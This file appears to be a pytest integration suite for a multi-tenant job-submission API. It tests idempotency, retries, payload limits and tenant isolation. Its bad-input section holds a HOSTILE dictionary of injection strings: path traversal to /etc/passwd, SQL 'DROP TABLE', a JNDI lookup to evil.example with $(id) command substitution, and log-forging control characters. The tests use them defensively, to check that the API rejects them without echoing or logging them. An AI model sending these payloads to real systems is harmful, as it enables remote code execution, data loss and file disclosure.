"""Submitting jobs over the HTTP API (TESTPLAN 1-8), through the api handler against moto."""

from __future__ import annotations

import io
import json
import logging
import threading
import types
from collections.abc import Iterator
from typing import Any

import botocore.endpoint
import pytest
from botocore.awsrequest import AWSPreparedRequest

from offpath.logic.submit import canonical_json
from offpath.observability import JsonFormatter
from tests.integration.conftest import Answer, Pipeline, aws_calls, operation_of

JSON = {"content-type": "application/json"}
LIMIT = 64 * 1024


def keyed(key: str) -> dict[str, str]:
    return {**JSON, "idempotency-key": key}


def view_of(pipeline: Pipeline, job_id: str, tenant: str = "tenant-a") -> dict[str, Any]:
    status, view, _ = pipeline.call("GET", f"/jobs/{job_id}", tenant=tenant)
    assert status == 200, view
    return view


def jobs_of(pipeline: Pipeline, tenant: str = "tenant-a") -> list[dict[str, Any]]:
    status, page, _ = pipeline.call("GET", "/jobs?limit=100", tenant=tenant)
    assert status == 200, page
    return list(page["jobs"])


def strings_in(value: Any) -> Iterator[str]:
    """Every string inside a decoded JSON value, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)


@pytest.fixture
def json_logs() -> Iterator[io.StringIO]:
    """Every log line, at every level, as the functions write it (JSON lines)."""
    lines = io.StringIO()
    handler = logging.StreamHandler(lines)
    handler.setFormatter(JsonFormatter("api"))
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield lines
    finally:
        root.removeHandler(handler)
        root.setLevel(level)


# -- 1-4: idempotency ---------------------------------------------------------------------------


def test_the_same_key_sent_by_twenty_callers_at_once_makes_exactly_one_job(pipeline: Pipeline) -> None:
    """On AWS every request has its own Lambda environment. In one process the callers meet at a
    barrier just before their conditional write, so all twenty writes race for the same item."""
    callers = 20
    everyone_ready = threading.Barrier(callers, timeout=30)
    waited = threading.local()

    def write_together(**kwargs: Any) -> None:
        if not getattr(waited, "done", False):
            waited.done = True
            everyone_ready.wait()

    pipeline.clients["dynamodb"].meta.events.register("before-call.dynamodb.PutItem", write_together)
    answers: list[tuple[int, Any, dict[str, str]]] = []

    def caller() -> None:
        answers.append(pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42")))

    threads = [threading.Thread(target=caller) for _ in range(callers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)

    assert sorted(status for status, _, _ in answers) == [200] * 19 + [202]
    assert len({body["job_id"] for _, body, _ in answers}) == 1
    assert all(headers.get("Idempotent-Replayed") == "true" for status, _, headers in answers if status == 200)
    assert len(jobs_of(pipeline)) == 1


def test_the_same_key_and_payload_replays_the_first_job(pipeline: Pipeline) -> None:
    _, first, _ = pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42"))

    status, again, headers = pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42"))

    assert status == 200
    assert headers["Idempotent-Replayed"] == "true"
    assert again["job_id"] == first["job_id"]


def test_the_same_key_with_another_payload_is_rejected_and_the_first_job_is_untouched(pipeline: Pipeline) -> None:
    _, first, _ = pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42"))
    before = view_of(pipeline, first["job_id"])

    status, body, _ = pipeline.submit("demo.echo", {"n": 2}, headers=keyed("order-42"))

    assert status == 422
    assert body["error"]["code"] == "idempotency_key_reused"
    assert body["error"]["field"] == "Idempotency-Key"
    assert view_of(pipeline, first["job_id"]) == before
    pipeline.drain()
    assert view_of(pipeline, first["job_id"])["result"] == {"n": 1}


def test_another_tenant_reusing_a_key_gets_its_own_new_job(pipeline: Pipeline) -> None:
    _, job_a, _ = pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42"), tenant="tenant-a")

    status, job_b, headers = pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42"), tenant="tenant-b")

    assert status == 202
    assert "Idempotent-Replayed" not in headers
    assert job_b["job_id"] != job_a["job_id"]
    assert [j["job_id"] for j in jobs_of(pipeline, "tenant-b")] == [job_b["job_id"]]


@pytest.mark.parametrize("lost_put", [0, 1], ids=["key-record", "job"])
def test_a_write_whose_response_was_lost_and_retried_by_the_sdk_still_accepts_the_job(
    pipeline: Pipeline, lost_put: int
) -> None:
    """A conditional PutItem (the key's record, or the job) lands, its response is lost, botocore retries: the
    retry meets the submission's own item and the caller still gets 202, with one job and one message."""
    client = pipeline.clients["dynamodb"]
    lost: list[int] = []
    landed: list[int] = []

    def lose_the_first_success(response: Any, **kwargs: Any) -> int | None:
        if not lost and response is not None and response[0].status_code == 200:
            landed.append(1)
            if len(landed) > lost_put:
                lost.append(1)
                return 0  # retry at once
        return None

    client.meta.events.register_first("needs-retry.dynamodb.PutItem", lose_the_first_success)
    attempts: list[int] = []
    client.meta.events.register("before-send.dynamodb.PutItem", lambda **kwargs: attempts.append(1))
    calls = aws_calls(pipeline.clients["sqs"])

    status, job, headers = pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42"))

    assert status == 202, job
    assert "Idempotent-Replayed" not in headers
    assert len(attempts) == 3  # the key's record and the job, one of them twice
    assert calls == {"SQS.SendMessage": 1}
    assert [j["job_id"] for j in jobs_of(pipeline)] == [job["job_id"]]


# -- 5: DynamoDB unavailable --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "code"),
    [
        (400, "ProvisionedThroughputExceededException"),
        (400, "ThrottlingException"),
        (500, "InternalServerError"),
    ],
)
def test_a_store_that_keeps_failing_is_retried_three_times_then_answered_with_503(
    pipeline: Pipeline, aws_answers: list[Any], monkeypatch: pytest.MonkeyPatch, status: int, code: str
) -> None:
    attempts: list[str] = []

    def fail_every_put(request: AWSPreparedRequest) -> Answer | None:
        if operation_of(request) != "DynamoDB_20120810.PutItem":
            return None
        attempts.append(code)
        body = json.dumps({"__type": f"com.amazonaws.dynamodb.v20120810#{code}", "message": "try again later"})
        return status, {"Content-Type": "application/x-amz-json-1.0"}, body

    aws_answers.append(fail_every_put)
    slept: list[float] = []
    monkeypatch.setattr(botocore.endpoint, "time", types.SimpleNamespace(sleep=slept.append))

    answer, body, headers = pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42"))

    assert answer == 503
    assert headers["Retry-After"] == "2"
    assert body["error"]["code"] == "unavailable"
    assert len(attempts) == 3
    assert len(slept) == 2  # backing off between the attempts
    aws_answers.clear()
    assert jobs_of(pipeline) == []


def test_a_submit_that_died_between_its_keys_record_and_its_job_is_carried_on_by_the_retry_and_runs_once(
    pipeline: Pipeline, aws_answers: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The key's record is written and the message sent, then every attempt at the job's write fails (503). The
    client's retry with the same key finds the record, no job: it carries the submit on under the recorded id.
    One job, QUEUED, which runs once (the first message is a duplicate delivery, acknowledged)."""
    monkeypatch.setattr(botocore.endpoint, "time", types.SimpleNamespace(sleep=lambda s: None))

    def fail_the_job_put(request: AWSPreparedRequest) -> Answer | None:
        if operation_of(request) != "DynamoDB_20120810.PutItem" or b'"JOB#' not in (request.body or b""):
            return None
        body = json.dumps({"__type": "com.amazonaws.dynamodb.v20120810#InternalServerError", "message": "down"})
        return 500, {"Content-Type": "application/x-amz-json-1.0"}, body

    aws_answers.append(fail_the_job_put)
    refused, _, _ = pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42"))
    aws_answers.clear()
    assert refused == 503
    assert jobs_of(pipeline) == []
    assert pipeline.depth() == (1, 0)  # its message went out first

    status, job, headers = pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42"))

    assert status == 202, job
    assert "Idempotent-Replayed" not in headers
    assert [(j["job_id"], j["status"]) for j in jobs_of(pipeline)] == [(job["job_id"], "QUEUED")]
    pipeline.drain()
    (done,) = jobs_of(pipeline)
    assert (done["job_id"], done["status"], done["attempts"]) == (job["job_id"], "SUCCEEDED", 1)
    replay, again, _ = pipeline.submit("demo.echo", {"n": 1}, headers=keyed("order-42"))
    assert (replay, again["job_id"]) == (200, job["job_id"])


# -- 6: bad input -------------------------------------------------------------------------------


def test_malformed_json_is_rejected_with_400(pipeline: Pipeline) -> None:
    status, body, _ = pipeline.call("POST", "/jobs", raw_body='{"type": "demo.echo", "payload": ')

    assert status == 400
    assert body["error"]["code"] == "malformed_json"


@pytest.mark.parametrize("body", [[], "text", 42, None])
def test_a_body_that_is_not_a_json_object_is_rejected(pipeline: Pipeline, body: Any) -> None:
    status, answer, _ = pipeline.call("POST", "/jobs", raw_body=json.dumps(body))

    assert status == 422
    assert answer["error"]["field"] == "body"


def test_an_unknown_job_type_is_rejected_with_422(pipeline: Pipeline) -> None:
    status, body, _ = pipeline.submit("no.such.job", {})

    assert status == 422
    assert (body["error"]["code"], body["error"]["field"]) == ("unknown_job_type", "type")


HOSTILE = {
    "path": "../../etc/passwd",
    "quotes": "demo.echo\"'; DROP TABLE jobs; --",
    "dollar": "${jndi:ldap://evil.example/a}$(id)",
    "control": "demo\x00.echo\x1b[31m\r\nFAKE LOG LINE",
    "10kb": "demo.echo-" + "A" * 10_240,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_type_name_is_rejected_and_never_echoed_or_logged(
    pipeline: Pipeline, json_logs: io.StringIO, name: str
) -> None:
    hostile = HOSTILE[name]

    status, body, _ = pipeline.call("POST", "/jobs", body={"type": hostile, "payload": {}})

    assert 400 <= status < 500
    assert body["error"]["field"] == "type"
    assert not any(hostile in text for text in strings_in(body))
    logged = [json.loads(line) for line in json_logs.getvalue().splitlines()]
    assert not any(hostile in text for text in strings_in(logged))


def test_a_hostile_payload_value_is_rejected_naming_the_field_without_echoing_it(pipeline: Pipeline) -> None:
    hostile = HOSTILE["control"]

    status, body, _ = pipeline.submit("send_welcome_email", {"user_id": "u-1", "email": hostile})

    assert status == 422
    assert (body["error"]["code"], body["error"]["field"]) == ("invalid_payload", "payload.email")
    assert not any(hostile in text for text in strings_in(body))


def test_an_unknown_top_level_field_is_rejected_without_echoing_its_name(pipeline: Pipeline) -> None:
    hostile = HOSTILE["dollar"]

    status, body, _ = pipeline.call("POST", "/jobs", body={"type": "demo.echo", "payload": {}, hostile: 1})

    assert status == 422
    assert not any(hostile in text for text in strings_in(body))


# -- 7: payload limit ---------------------------------------------------------------------------


def payload_of_size(size: int) -> dict[str, str]:
    """A payload whose compact canonical JSON (what the limit measures) is exactly `size` bytes."""
    payload = {"data": ""}
    payload["data"] = "x" * (size - len(canonical_json(payload).encode()))
    return payload


def test_a_payload_exactly_at_the_limit_is_accepted(pipeline: Pipeline) -> None:
    status, body, _ = pipeline.submit("demo.echo", payload_of_size(LIMIT))

    assert status == 202, body


def test_a_payload_one_byte_over_the_limit_is_rejected_with_413_naming_the_limit(pipeline: Pipeline) -> None:
    status, body, _ = pipeline.submit("demo.echo", payload_of_size(LIMIT + 1))

    assert status == 413
    assert body["error"]["code"] == "payload_too_large"
    assert f"the limit is {LIMIT} bytes" in body["error"]["message"]
    assert jobs_of(pipeline) == []


def test_a_payload_far_over_the_limit_is_rejected_with_413_naming_the_same_limit(pipeline: Pipeline) -> None:
    status, body, _ = pipeline.submit("demo.echo", payload_of_size(4 * LIMIT))

    assert status == 413
    assert f"the limit is {LIMIT} bytes" in body["error"]["message"]


def test_whitespace_in_the_request_does_not_count_towards_the_limit(pipeline: Pipeline) -> None:
    spaced = json.dumps({"type": "demo.echo", "payload": payload_of_size(LIMIT - 1024)}, indent=200)

    status, body, _ = pipeline.call("POST", "/jobs", raw_body=spaced)

    assert status == 202, body


# -- 8: tenants ---------------------------------------------------------------------------------

ROUTES = [
    ("POST", "/jobs"),
    ("POST", "/jobs/batch"),
    ("GET", "/jobs"),
    ("GET", "/jobs/" + "a" * 32),
    ("POST", "/jobs/" + "a" * 32 + "/cancel"),
    ("GET", "/queues"),
]


@pytest.mark.parametrize(("method", "path"), ROUTES)
def test_a_request_without_an_authenticated_caller_is_refused_before_any_work(
    pipeline: Pipeline, method: str, path: str
) -> None:
    calls = aws_calls(pipeline.clients["dynamodb"], pipeline.clients["sqs"])

    status, body, _ = pipeline.call(method, path, body={"type": "demo.echo", "payload": {}}, tenant=None)

    assert status == 401
    assert body["error"]["code"] == "unauthorized"
    assert calls == {}


def test_another_tenants_job_is_not_found(pipeline: Pipeline) -> None:
    _, job, _ = pipeline.submit("demo.echo", {"n": 1}, tenant="tenant-a")

    status, body, _ = pipeline.call("GET", f"/jobs/{job['job_id']}", tenant="tenant-b")
    cancel_status, _, _ = pipeline.call("POST", f"/jobs/{job['job_id']}/cancel", tenant="tenant-b")

    assert status == 404
    assert body["error"]["code"] == "not_found"
    assert cancel_status == 404  # a job is read and written by its tenant and id: under another, no job
    assert pipeline.call("GET", f"/jobs/{job['job_id']}", tenant="tenant-a")[0] == 200


def test_another_tenants_jobs_are_not_listed(pipeline: Pipeline) -> None:
    pipeline.submit("demo.echo", {"n": 1}, tenant="tenant-a")
    _, own, _ = pipeline.submit("demo.echo", {"n": 2}, tenant="tenant-b")

    assert [j["job_id"] for j in jobs_of(pipeline, "tenant-b")] == [own["job_id"]]


def test_another_tenants_job_cannot_be_cancelled(pipeline: Pipeline) -> None:
    _, job, _ = pipeline.submit("demo.echo", {"n": 1}, tenant="tenant-a")

    status, _, _ = pipeline.call("POST", f"/jobs/{job['job_id']}/cancel", tenant="tenant-b")

    assert status == 404
    assert view_of(pipeline, job["job_id"])["status"] == "QUEUED"


@pytest.mark.parametrize("job_id", ["not-an-id", "A" * 32, "a" * 31, "a" * 33, "../" + "a" * 29])
def test_a_malformed_job_id_is_not_found(pipeline: Pipeline, job_id: str) -> None:
    calls = aws_calls(pipeline.clients["dynamodb"])

    status, body, _ = pipeline.call("GET", f"/jobs/{job_id}")

    assert status == 404
    # "../" makes a path no route matches: API Gateway's own 404.
    assert body.get("error", {}).get("code") == "not_found" or body == {"message": "Not Found"}
    assert calls == {}


# -- call counts --------------------------------------------------------------------------------


def test_a_submit_costs_one_write_and_one_send(pipeline: Pipeline) -> None:
    calls = aws_calls(pipeline.clients["dynamodb"], pipeline.clients["sqs"])

    status, _, _ = pipeline.submit("demo.echo", {"n": 1})

    assert status == 202
    assert calls == {"DynamoDB.PutItem": 1, "SQS.SendMessage": 1}


def test_the_submit_answer_shows_the_payload_as_the_read_does(pipeline: Pipeline) -> None:
    status, submitted, _ = pipeline.submit("demo.echo", {"n": 7, "text": "hello"})

    _, read, _ = pipeline.call("GET", f"/jobs/{submitted['job_id']}")
    assert status == 202
    assert submitted["payload"] == {"n": 7, "text": "hello"}
    assert submitted["payload"] == read["payload"]


def test_tags_are_kept_shown_and_filter_a_listing(pipeline: Pipeline) -> None:
    _, tagged, _ = pipeline.call(
        "POST", "/jobs", body={"type": "demo.echo", "payload": {"n": 1}, "tags": {"customer": "acme", "tier": "gold"}}
    )
    pipeline.submit("demo.echo", {"n": 2})
    _, other, _ = pipeline.call(
        "POST", "/jobs", body={"type": "demo.echo", "payload": {"n": 3}, "tags": {"customer": "globex"}}
    )

    _, read, _ = pipeline.call("GET", f"/jobs/{tagged['job_id']}")
    status, listed, _ = pipeline.call("GET", "/jobs?tag=customer:acme")

    assert tagged["tags"] == {"customer": "acme", "tier": "gold"}
    assert read["tags"] == {"customer": "acme", "tier": "gold"}
    assert status == 200
    assert [job["job_id"] for job in listed["jobs"]] == [tagged["job_id"]]
    assert listed["jobs"][0]["tags"] == {"customer": "acme", "tier": "gold"}
    assert other["job_id"] not in [job["job_id"] for job in listed["jobs"]]


def test_a_replay_with_other_tags_reuses_the_key(pipeline: Pipeline) -> None:
    body = {"type": "demo.echo", "payload": {"n": 1}, "tags": {"customer": "acme"}}
    first_status, first, _ = pipeline.call("POST", "/jobs", body=body, headers=keyed("tagged-1"))

    again, same, _ = pipeline.call("POST", "/jobs", body=body, headers=keyed("tagged-1"))
    other, refused, _ = pipeline.call(
        "POST", "/jobs", body={**body, "tags": {"customer": "globex"}}, headers=keyed("tagged-1")
    )

    assert (first_status, again) == (202, 200)
    assert same["job_id"] == first["job_id"]
    assert other == 422
    assert refused["error"]["code"] == "idempotency_key_reused"


def test_bad_tags_are_refused_naming_the_field(pipeline: Pipeline) -> None:
    eleven = {f"k{n}": "v" for n in range(11)}

    too_many, body, _ = pipeline.call("POST", "/jobs", body={"type": "demo.echo", "payload": {}, "tags": eleven})
    bad_filter, listing, _ = pipeline.call("GET", "/jobs?tag=no%20colon")

    assert too_many == 422
    assert body["error"]["field"].startswith("tags")
    assert bad_filter == 422
    assert listing["error"]["field"] == "tag"
